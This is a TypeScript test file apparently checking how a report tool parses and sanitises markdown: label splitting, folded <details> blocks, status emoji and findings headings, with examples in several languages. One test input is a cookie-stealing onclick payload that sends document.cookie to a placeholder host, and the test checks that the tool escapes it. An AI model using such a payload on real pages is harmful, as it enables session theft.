// mendb54: the review's findings in brf54's, ret54's and perf54's rules, each on synthetic documents in two languages
// at least: a folded block's tags kept only bare; imperatives under a gaps label stay rules; a "none found" heading
// over a body naming a place or a problem is a finding; a caution light that states a failure makes the work partial;
// "__" glued to a word opens no later label.

import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { keyedWords } from '../../src/brief/keyed-words.js';
import { readReturn } from '../helpers/read-return.js';
import { renderedBrief, storeReturn, writtenSection } from '../helpers/written.js';

describe('"__" glued to a word is its snake case, never a later label on the line', () => {
  it.each([
    ['en', '**Date:** 2026-03-01 see run_tests__Status:__ partial', 'The total is rounded early.', '**Date:** 2026-03-01 see run_tests __Status:__ partial'],
    ['de', '**Datum:** 2026-03-01 siehe lauf_tests__Status:__ teilweise', 'Die Summe wird zu früh gerundet.', '**Datum:** 2026-03-01 siehe lauf_tests __Status:__ teilweise'],
  ])('%s', (_l, glued, finding, apart) => {
    const md = (line: string) => `# Spike\n\n${line}\n\n## Findings\n\n- ${finding}\n`;
    expect(readReturn(md(glued)).r.given.has('outcome')).toBe(false);
    // (After a blank the same label states the outcome.)
    expect(readReturn(md(apart)).r.outcomeFrom?.outcome).toBe('partial');
  });
});

describe('a folded block\'s tags stand as written only bare: <details>, <details open>, <summary>', () => {
  const md = (evidence: string, open: string, summary: string) =>
    `## Outcome\n\ndone — shipped the export.\n\n## Findings\n\nNone.\n\n## ${evidence}\n\n${open}\n${summary}\nall 43 pass\n</details>\n`;
  it.each([
    ['en', 'Evidence', 'Test log'],
    ['de', 'Nachweise', 'Testprotokoll'],
  ])('%s', (_l, evidence, log) => {
    for (const open of ['<details open onclick="fetch(\'https://x.example/?c=\'+document.cookie)">', '<details class="x">', '<details style="display:block">']) {
      const out = storeReturn(md(evidence, open, `<summary>${log}</summary>`), 'task-a-abcd').stored;
      expect(out).not.toMatch(/(?<!\\)<details /);
      expect(out).toContain(`\\${open}`);
    }
    const attr = storeReturn(md(evidence, '<details>', `<summary onclick="x()">${log}</summary>`), 'task-a-abcd').stored;
    expect(attr).not.toMatch(/(?<!\\)<summary /);
    // (Bare, the tags are written as they stand.)
    for (const open of ['<details>', '<details open>']) {
      const out = storeReturn(md(evidence, open, `<summary>${log}</summary>`), 'task-a-abcd').stored;
      expect(out).toMatch(new RegExp(`\\n- ${open}\\n +<summary>${log}</summary>\\n`));
      expect(out).toMatch(/\n +<\/details>/);
    }
  });
});

describe('a caution light under a pass line that states a failure or a problem makes the work partial', () => {
  it.each([
    ['en', 'Result', '✅ Export works end to end', '🟠 Import silently drops every row after 10,000', '🟡 Follow-up: add a metric'],
    ['de', 'Ergebnis', '✅ Der Export läuft durchgehend', '🟠 Nach 10.000 Zeilen fehlen alle weiteren Zeilen', '🟡 Folgeaufgabe: eine Metrik ergänzen'],
    ['es', 'Resultado', '✅ La exportación funciona de punta a punta', '🟠 La importación falla después de 10.000 filas', '🟡 Pendiente: añadir una métrica'],
  ])('%s', (_l, heading, ok, problem, caution) => {
    const md = (next: string) => `# Spike\n\n## ${heading}\n\n${ok}\n${next}\n`;
    expect(readReturn(md(problem)).r.outcomeFrom?.outcome).toBe('partial');
    expect(readReturn(md(caution)).r.outcomeFrom?.outcome).toBe('answered');
  });
});

describe('a heading saying none was found over a body that names a place or a problem is still a finding', () => {
  // [language, findings heading, two findings, the part's heading, a body naming a problem, a body stating none]
  it.each([
    ['en', 'Findings', '### 1. Session cookie lacks SameSite\n\n`auth/cookie.ts:9` sets only HttpOnly.\n\n### 2. Wrong password — no error shown\n\nThe form just reloads (`web/login.tsx:55`).', '### 3. Rate limit — none found', 'No limiter on `/login` at all (`api/login.ts:12`).', 'Checked the login handler; a limiter is in place.'],
    ['de', 'Befunde', '### 1. Session-Cookie ohne SameSite\n\n`auth/cookie.ts:9` setzt nur HttpOnly.\n\n### 2. Falsches Passwort — keine Meldung\n\nDas Formular lädt nur neu (`web/login.tsx:55`).', '### 3. Rate-Limit — keine Probleme gefunden', 'Kein Limiter auf `/login` (`api/login.ts:12`).', 'Den Login-Handler geprüft; ein Limiter ist vorhanden.'],
  ])('%s', (_l, findings, two, part, problem, none) => {
    const md = (body: string) => `## Outcome\n\nanswered — reviewed the login form.\n\n## ${findings}\n\n${two}\n\n${part}\n\n${body}\n`;
    const f = readReturn(md(problem)).f;
    expect(f).toHaveLength(3);
    expect(f[2]!.text).toContain('api/login.ts:12');
    // (Over a body that states nothing wrong, the part is the writer's account, no finding.)
    expect(readReturn(md(none)).f).toHaveLength(2);
  });
});

describe('under a label of gaps, a declarative item is no rule, an imperative one is', () => {
  // [language, label, declarative gaps, imperative rules]
  it.each([
    ['en', '**Known gaps:**', ['XLSX is not supported.', 'No wait-time estimation shown to callers', '`max_size` is never read by `enqueue()`'], ['Never call the legacy /v1/charge endpoint from the importer; it charges twice.', 'Do not retry a failed charge from the importer.', 'The importer must not write to `ledger` directly.']],
    ['de', '**Bekannte Lücken:**', ['XLSX wird nicht unterstützt.', 'Keine Wartezeit-Schätzung für Aufrufer', '`max_size` wird von `enqueue()` nie gelesen'], ['Nie den alten Endpunkt /v1/charge aus dem Importer aufrufen; er bucht doppelt.', 'Nicht den fehlgeschlagenen Abbuchungsversuch im Importer wiederholen.']],
  ])('%s', (_l, label, gaps, rules) => {
    const items = [...gaps, ...rules].map((x) => `- ${x}`).join('\n');
    const md = `# Import XLSX files\n\n## Why\n\nCustomers send spreadsheets, support converts them by hand.\n\n## Context\n\nThe importer handles CSV only (\`import/csv.ts\`).\n\n${label}\n${items}\n\n## Deliver\n\nXLSX import through the same pipeline.\n\n## First step\n\nRead \`import/csv.ts\`.\n`;
    const out = renderedBrief(md).out;
    const constraints = writtenSection(out, 'Constraints to respect');
    for (const g of gaps) expect(constraints).not.toContain(g);
    for (const r of rules) expect(constraints).toContain(r);
  });
});

describe('every word prompts/outcomes.txt lists for work done states the outcome after one or two words naming the work', () => {
  const words = keyedWords(readFileSync(new URL('../../prompts/outcomes.txt', import.meta.url), 'utf8'), 'work done');
  it('the list is there, in every language the reader knows (en, de, fr, es, pt, pl, ru)', () => {
    expect(words).toEqual(expect.arrayContaining(['done', 'abgeschlossen', 'terminée', 'completada', 'concluído', 'zakończony', 'завершён']));
  });
  it.each([
    ['en', 'Migration', 'The total is rounded early.', ['done', 'complete', 'completed', 'finished', 'fixed', 'resolved']],
    ['de', 'Die Prüfung', 'Die Summe wird zu früh gerundet.', ['abgeschlossen', 'durchgeführt']],
    ['es', 'La auditoría', 'El total se redondea antes de tiempo.', ['completada', 'terminada', 'finalizada', 'realizada']],
    ['ru', 'Аудит', 'Итог округляется слишком рано.', ['завершён', 'завершен', 'выполнен']],
  ])('%s', (_l, work, finding, done) => {
    for (const w of done) {
      expect(words).toContain(w);
      const { r } = readReturn(`# Spike\n\n${work} ${w}.\n\n## Findings\n\n- ${finding}\n`);
      expect([w, r.outcomeFrom?.outcome]).toEqual([w, 'answered']);
    }
  });
});
